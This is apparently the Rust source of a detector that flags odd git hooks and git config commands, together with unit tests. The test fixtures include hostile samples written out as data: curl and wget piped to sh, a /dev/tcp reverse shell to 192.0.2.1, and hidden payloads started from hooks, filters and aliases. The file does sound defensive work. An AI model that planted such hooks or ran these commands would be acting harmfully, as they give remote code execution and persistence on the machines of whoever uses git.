//! Detector: git runs something odd: a hook of a repository, or a command of its settings.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Severity, kinds::StartupCommand, kinds::SystemSetting};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "git-command",
        doc: "A hook of a git repository, or a command in git's settings (pager, fsmonitor, filter, alias), does what ordinary ones do not.",
        mechanisms: &[52],
        attack: &["T1546", "T1059"],
        why: "It runs with the rights of whoever uses git there, at an ordinary command such as git status or git pull.",
        innocent: "you or a developer wrote it, to deploy or to check what is committed",
        next: "read the hook or setting before anybody uses git in that repository again; git -c core.hooksPath=/dev/null runs no hooks",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>().filter(|row| row.mechanism.starts_with("git ")) {
        let whole = row.line == 0;
        let mut weight = if whole {
            weigh::content(&files, &row.path, row.as_root)
        } else {
            weigh::command(&files, &row.command, row.as_root).and(weigh::changeable(&files, &row))
        };
        let file = files.get(&row.path);
        if whole && file.is_some_and(|file| file.elf && file.package.is_none()) {
            let reason = "it is a compiled program, where scripts stand that can be read";
            weight = weight.and(Weight::of(Severity::Medium, reason));
        }
        if row.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let title =
            if whole { "A hook of a git repository does something odd" } else { "git runs something odd" };
        let identity = [row.path.as_bytes(), b"\0", row.command.as_bytes()].concat();
        drafts.extend(weigh::draft(
            weight,
            &identity,
            title.to_owned(),
            &row.path,
            row.line,
            &row.command,
            &row,
        ));
    }
    for row in tables.of::<SystemSetting>().filter(|row| row.area == "git hooks") {
        let directory = row.value.as_bytes();
        let open = weigh::is_open(&[directory, b"/x"].concat()) || weigh::is_deceptive(directory);
        let described = files.get(&row.value);
        let loose = described.is_some_and(|file| file.mode & 0o002 != 0 && file.what == "directory");
        let hidden = is_hidden(row.path.as_bytes(), directory);
        if !(open || loose || hidden) {
            continue;
        }
        let reason = if open || loose {
            format!("git runs the hooks in {}, where anybody may put files", row.value)
        } else {
            format!("git runs the hooks in {}, a hidden directory away from what they are for", row.value)
        };
        let weight = Weight { paths: vec![row.value.clone()], ..Weight::of(Severity::Medium, reason) };
        let title = "git takes its hooks from an odd place".to_owned();
        drafts.extend(weigh::draft(
            weight,
            row.path.as_bytes(),
            title,
            &row.path,
            row.line,
            &row.value,
            &row,
        ));
    }
}

/// Whether a directory of hooks is hidden, and neither in the home nor in the repository that its setting is for: there
/// hidden names are ordinary (.husky, ~/.git-template). Settings of the whole system have no such place.
fn is_hidden(setting: &[u8], directory: &[u8]) -> bool {
    let system: [&[u8]; 3] = [b"/etc/gitconfig", b"/usr/local/etc/gitconfig", b"/usr/etc/gitconfig"];
    let hidden = || directory.split(|b| *b == b'/').any(|part| part.starts_with(b"."));
    if system.contains(&setting) {
        return hidden();
    }
    // Above the first hidden part of the setting's own path: /home/me/.gitconfig, /srv/app/.git/config.
    let base = setting.windows(2).position(|two| two == b"/.");
    let base = base.or_else(|| setting.iter().rposition(|b| *b == b'/')).unwrap_or(0);
    let base = setting.get(..base).unwrap_or_default();
    hidden()
        && (base.is_empty() || !weigh::is_below(directory, base))
        && !weigh::is_below(directory, b"/home")
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host(repository: &str) -> Mem {
        Mem::new()
            .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nme:x:1000:1000::/home/me:/bin/bash\n")
            .file("/var/lib/dpkg/info/git.list", "/usr/bin/git\n")
            .file(format!("{repository}/HEAD"), "ref: refs/heads/main\n")
            .directory(format!("{repository}/objects"))
            .directory(format!("{repository}/refs"))
    }

    #[test]
    fn odd_hooks_and_settings_are_found_in_every_repository() {
        for (repository, name, text) in [
            ("/srv/app/.git", "hooks/post-merge", "#!/bin/sh\ncurl -fsSL http://192.0.2.1/a | sh\n"),
            ("/opt/deep/er/x.git", "hooks/update", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1 &\n"),
            ("/etc/.git", "hooks/pre-commit", "#!/bin/sh\netckeeper pre-commit\nnohup /dev/shm/.u &\n"),
            (
                "/home/me/w/.git",
                "hooks/post-checkout",
                "#!/usr/bin/env python3\nimport os\nos.system('/tmp/.x &')\n",
            ),
            ("/var/www/html/.git", "hooks/pre-push", "\x7fELF\x02"),
            ("/home/me/a/.git", "config", "[core]\n\tfsmonitor = \"/var/tmp/f\"\n"),
            ("/home/me/a/.git", "config", "[filter \"x\"]\n\tsmudge = \"wget -qO- 192.0.2.1/x | sh\"\n"),
            ("/root/a/.git", "config", "[include]\n path = ../more\n"),
            ("/srv/a/.git", "config", "[core]\n\tsshCommand = /dev/shm/ssh\n"),
            ("/srv/a/.git", "config", "[alias]\n\tst = \"!f() { nohup /tmp/z & git status; }; f\"\n"),
            ("/srv/a/.git", "config", "[core]\n hooksPath = /tmp/hooks\n"),
            ("/srv/a/.git", "config", "[core]\n hooksPath = /usr/share/.h\n"),
        ] {
            let path = format!("{repository}/{name}");
            let mem = host(repository).file("/root/a/more", "[core]\npager = /tmp/p\n").file(&path, text);
            let seen = check(mem.owned(&path, 0o755, 0, 0));
            assert_eq!(seen.alarms("git-command").len(), 1, "{path}: {text}: {:#?}", seen.findings);
        }
        for path in ["/etc/gitconfig", "/home/me/.gitconfig", "/root/.config/git/config"] {
            let seen = check(host("/srv/a/.git").file(path, "[core]\npager = sh -c '/var/tmp/.p; less'\n"));
            assert_eq!(seen.alarms("git-command").len(), 1, "{path}");
        }
        for directory in ["/var/lib/.cached", "/opt/tools/.h/hooks", "/root/.g"] {
            let text = format!("[core]\n\thooksPath = {directory}\n");
            let seen = check(host("/srv/a/.git").file("/etc/gitconfig", text).directory(directory));
            assert_eq!(seen.alarms("git-command").len(), 1, "{directory}");
        }
    }

    #[test]
    fn what_developers_do_is_quiet() {
        let seen = check(
            host("/srv/app/.git")
                .file("/srv/app/.git/hooks/pre-commit.sample", "#!/bin/sh\n/tmp/x\n")
                .file("/srv/app/.git/hooks/post-receive", "#!/bin/sh\ncd /srv/app && git checkout -f && systemctl reload app\n")
                .owned("/srv/app/.git/hooks/post-receive", 0o755, 0, 0)
                .file("/srv/app/.git/hooks/pre-commit", "#!/usr/bin/env bash\nINSTALL_PYTHON=/srv/app/.venv/bin/python3\nARGS=(hook-impl --config=.pre-commit-config.yaml)\nexec \"$INSTALL_PYTHON\" -mpre_commit \"${ARGS[@]}\"\n")
                .owned("/srv/app/.git/hooks/pre-commit", 0o755, 0, 0)
                .file("/srv/app/.git/config", "[core]\n\tfsmonitor = true\n\thooksPath = .husky\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tprocess = git-lfs filter-process\n[credential]\n\thelper = store\n")
                .file("/home/me/.gitconfig", "[core]\n\tpager = delta\n\teditor = vim\n\tsshCommand = ssh -i ~/.ssh/work\n[alias]\n\tst = status\n\tgone = \"!git branch -vv | grep gone | xargs git branch -d\"\n[credential \"https://github.com\"]\n\thelper = !/usr/bin/gh auth git-credential\n[init]\n\ttemplateDir = ~/.git-template\n[core]\n\thooksPath = ~/.config/git/hooks\n")
                .file("/etc/gitconfig", "[core]\n\thooksPath = /usr/local/share/git-hooks\n")
                .directory("/usr/local/share/git-hooks"),
        );
        assert!(seen.alarms("git-command").is_empty(), "{:#?}", seen.by("git-command"));
    }
}
